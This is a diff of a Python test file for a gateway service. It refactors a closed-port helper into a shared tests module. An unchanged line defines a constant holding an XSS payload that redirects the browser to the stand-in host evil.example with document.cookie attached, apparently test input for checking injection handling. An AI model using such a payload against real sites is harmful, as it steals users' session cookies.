@@ -6,7 +6,6 @@ from __future__ import annotations
 import base64
 import os
 import re
-import socket
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
@@ -22,14 +21,11 @@ from gateway.auth.tokens import generate_pem
 from gateway.config.settings import load_settings
 from gateway.server import reload
 from tests.helpers import RunningGateway, serve_app
+from tests.ports import closed_port as _closed_port
 
 ATTACK = "<script>document.location='http://evil.example/?c='+document.cookie</script>"
 
 
-def _closed_port() -> int:
-    with socket.socket() as probe:
-        probe.bind(("127.0.0.1", 0))
-        return int(probe.getsockname()[1])
 
 
 def samples(text: str, name: str) -> dict[str, float]:
